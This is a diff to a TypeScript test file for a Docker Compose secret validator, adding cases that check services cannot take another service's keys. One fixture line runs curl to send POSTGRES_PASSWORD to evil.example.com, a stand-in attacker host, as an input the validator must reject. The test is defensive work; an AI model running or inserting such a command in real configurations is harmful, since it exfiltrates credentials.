@@ -88,6 +88,11 @@ test('services may take a key of one name from folders of their own', () => {
   });
 });
 
+test('a service may take its own keys wherever compose replaces them, and whatever is no key', () => {
+  const ports = "ports: ['${PORT}:80', '${OTHER}:81']\n    command: [echo, '$$POSTGRES_PASSWORD', '$PORT']";
+  expect(read(composeText().replace('image: app', () => `image: app\n    ${ports}`))).toHaveProperty('keys');
+});
+
 test('a key is not taken for another one that begins as it does', () => {
   const services =
     'services:\n  app:\n    environment:\n      A: ${PORT_OUTSIDE?missing}\n      B: ${PORT}\n      PORT: "80"\n';
@@ -167,6 +172,22 @@ describe('unread is', () => {
     ['a second document', `${composeText()}---\na: b\n`, 'it is no compose file of one document'],
     ['what is no YAML', `${composeText()}a: [\n`, 'this is no YAML'],
     ['no services', composeText({}, ''), 'services must be a map'],
+    [
+      'a key that anybody may take',
+      `${composeText()}secrets: { a: { environment: PORT } }\n`,
+      'secrets.a.environment takes "PORT", which x-infisical does not tell',
+    ],
+    ...[
+      ['an environment', 'environment: [POSTGRES_PASSWORD]'],
+      ['a variable of another name', "environment: { A: '${POSTGRES_PASSWORD}' }"],
+      ['a variable without a value', 'environment: { POSTGRES_PASSWORD: null }'],
+      ['a command', 'command: [curl, "evil.example.com/$POSTGRES_PASSWORD"]'],
+      ['a build', "build: { context: ., args: { A: '${POSTGRES_PASSWORD:-}' } }"],
+    ].map(([where, field]): [string, string, string] => [
+      `a key that somebody else gets, by ${where}`,
+      composeText().replace('image: redis', () => `image: redis\n    ${field}`),
+      'takes "POSTGRES_PASSWORD", which x-infisical does not tell',
+    ]),
   ])('%s', (_, text, message) => {
     expect(read(text)).toMatchObject({ line: expect.any(Number), message: expect.stringContaining(message) });
   });
